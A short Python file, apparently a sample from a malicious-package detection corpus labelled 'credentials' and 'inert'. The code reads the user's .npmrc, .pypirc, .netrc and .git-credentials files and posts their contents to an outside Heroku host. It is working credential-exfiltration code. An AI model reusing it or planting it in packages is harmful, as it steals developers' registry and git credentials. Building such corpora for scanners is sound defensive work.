# pkgguard corpus 123 (credentials), modelled on [taxonomy]; inert, never run.
import os
import requests

found = {}
for name in (".npmrc", ".pypirc", ".netrc", ".git-credentials"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        found[name] = open(path).read()
requests.post("https://relay.herokuapp.com/c", json=found)
